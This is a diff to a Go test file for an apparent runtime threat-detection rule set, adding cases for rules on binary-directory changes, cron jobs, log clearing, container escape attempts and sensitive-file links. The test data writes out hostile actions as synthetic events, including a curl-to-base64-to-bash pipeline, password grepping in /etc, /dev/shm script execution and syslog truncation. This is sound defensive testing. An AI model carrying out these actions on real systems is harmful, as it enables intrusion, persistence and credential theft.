@@ -325,6 +325,20 @@ func behaviourCases() []falcoCase {
 		{"BPF program loaded",
 			func() *event.Enriched { return bpfEv(5) },
 			func() *event.Enriched { return bpfEv(1) }},
+		{"Binary directory changed",
+			func() *event.Enriched {
+				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdirat, "/usr/local/bin/kit")
+			},
+			func() *event.Enriched {
+				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdirat, "/usr/local/binaries")
+			}},
+		{"Cron job scheduled",
+			func() *event.Enriched {
+				return openEv(cshell(proc("sh", "/bin/sh")), "/var/spool/cron/crontabs/root", oWronly|oCreat|oTrunc)
+			},
+			func() *event.Enriched {
+				return openEv(cshell(proc("sh", "/bin/sh")), "/var/spool/cron/crontabs/root", 0)
+			}},
 	}
 }
 
@@ -333,6 +347,8 @@ func TestDefaultRulesFireAndMiss(t *testing.T) {
 	// A miner's pool connection is also unexpected egress; both must fire.
 	also := map[string][]string{
 		"Crypto miner stratum connection": {"Unexpected outbound connection", "Outbound connection to a stratum port"},
+		// The firing event writes /etc/crontab: also a cron job.
+		"Write below /etc in container": {"Cron job scheduled"},
 	}
 	covered := map[string]bool{}
 	for _, tc := range defaultCases() {
@@ -387,6 +403,14 @@ func TestBehaviourRuleVariants(t *testing.T) {
 	exec := func(comm string, args ...string) *event.Enriched {
 		return execEv(cshell(proc(comm, "/usr/bin/"+comm, append([]string{comm}, args...)...)))
 	}
+	rename := func(comm, from, to string) *event.Enriched {
+		e := sysEv(cshell(proc(comm, "/bin/"+comm)), event.SysRenameat2, 0)
+		e.Path, e.Path2 = []byte(from), []byte(to)
+		return e
+	}
+	refused := func(nr uint16, comm string) *event.Enriched {
+		return sysEv(cshell(proc(comm, "/usr/bin/"+comm)), nr, -1) // EPERM
+	}
 	cases := []struct {
 		name string
 		e    *event.Enriched
@@ -412,6 +436,46 @@ func TestBehaviourRuleVariants(t *testing.T) {
 		{"bpftool show", exec("bpftool", "prog", "show"), ""},
 		{"grep password", exec("grep", "-ri", "password", "/etc"), "Search for private keys or passwords"},
 		{"python base64 to shell", execEv(inCtr(lineage(proc("bash", "/bin/bash", "bash"), proc("sh", "/bin/sh", "sh", "-c", "curl -s x | base64 --decode | bash")), ctr())), "Base64-decoded payload piped to a shell"},
+		// Found with Falco's event-generator (docs/event-generator.md).
+		{"shell -c of a /dev/shm script", exec("sh", "-c", "/dev/shm/x.sh"), "Execution from /dev/shm"},
+		{"shell -c listing /dev/shm", exec("sh", "-c", "ls /dev/shm/"), ""},
+		{"host syslog truncated through a mount", openEv(cshell(proc("sh", "/bin/sh")), "/host/var/log/syslog", oWronly|oCreat|oTrunc), "System log cleared"},
+		{"host syslog appended through a mount", openEv(cshell(proc("sh", "/bin/sh")), "/host/var/log/syslog", oWronly|oCreat|oAppend), ""},
+		{"app log named like a system log truncated elsewhere", openEv(cshell(proc("sh", "/bin/sh")), "/srv/app/app-syslog", oWronly|oCreat|oTrunc), ""},
+		{"dotless history truncated", openEv(cshell(proc("app", "/usr/bin/app")), "/tmp/h/ash_history", oWronly|oCreat|oTrunc), "Shell configuration or history changed"},
+		{"dotless history appended by its shell", openEv(cshell(proc("ash", "/bin/ash")), "/root/ash_history", oWronly|oCreat|oAppend), ""},
+		{"setns refused in container", refused(event.SysSetns, "app"), "Container escape attempt refused"},
+		{"setns refused for the runtime", refused(event.SysSetns, "runc:[2:INIT]"), ""},
+		// runc exec (kubectl exec) makes runc the parent of what it starts.
+		{"setns refused in a process runc exec started", func() *event.Enriched {
+			return sysEv(inCtr(lineage(proc("app", "/usr/bin/app"), proc("runc", "/usr/sbin/runc")), ctr()), event.SysSetns, -1)
+		}(), "Container escape attempt refused"},
+		{"unshare refused in container", refused(event.SysUnshare, "unshare"), "Container escape attempt refused"},
+		{"binary renamed in /bin", rename("mv", "/bin/true", "/bin/true.bak"), "Binary directory changed"},
+		{"binary moved into /usr/bin", rename("mv", "/tmp/kworker", "/usr/bin/kworker"), "Binary directory changed"},
+		{"binary directory changed by dpkg", rename("dpkg", "/usr/bin/true.dpkg-new", "/usr/bin/true"), ""},
+		{"python bytecode cache", func() *event.Enriched {
+			e := sysEv(cshell(proc("python3", "/usr/bin/python3")), event.SysMkdirat, 0)
+			e.Path = []byte("/usr/lib/python3/dist-packages/__pycache__")
+			return e
+		}(), ""},
+		{"file renamed in /tmp", rename("mv", "/tmp/a", "/tmp/b"), ""},
+		{"binary removed from /usr/local/bin", unlink("rm", "/usr/local/bin/tool"), "Binary directory changed"},
+		{"symlink to /etc", func() *event.Enriched {
+			e := sysEv(cshell(proc("ln", "/bin/ln")), event.SysSymlinkat, 0)
+			e.Path, e.Path2 = []byte("/etc"), []byte("/tmp/etc_link")
+			return e
+		}(), "Link to a sensitive file created"},
+		{"symlink to /etc/localtime", func() *event.Enriched {
+			e := sysEv(cshell(proc("ln", "/bin/ln")), event.SysSymlinkat, 0)
+			e.Path, e.Path2 = []byte("/etc/localtime"), []byte("/tmp/tz")
+			return e
+		}(), ""},
+		{"crontab run in a container", exec("crontab", "-l"), "Cron job scheduled"},
+		{"crontab run on the host", execEv(lineage(proc("crontab", "/usr/bin/crontab", "crontab", "-e"), proc("bash", "/bin/bash"))), ""},
+		{"crontab edited on the host", openEv(lineage(proc("crontab", "/usr/bin/crontab"), proc("bash", "/bin/bash")), "/var/spool/cron/crontabs/root", oWronly|oCreat|oTrunc), "Cron job scheduled"},
+		{"cron.d file installed by dpkg", openEv(cshell(proc("dpkg", "/usr/bin/dpkg")), "/etc/cron.d/logrotate", oWronly|oCreat), ""},
+		{"cron.daily script read", openEv(cshell(proc("run-parts", "/bin/run-parts")), "/etc/cron.daily/logrotate", 0), ""},
 		{"link to shadow", func() *event.Enriched {
 			e := sysEv(cshell(proc("ln", "/bin/ln")), event.SysLinkat, 0)
 			e.Path, e.Path2 = []byte("/etc/shadow"), []byte("/tmp/s")
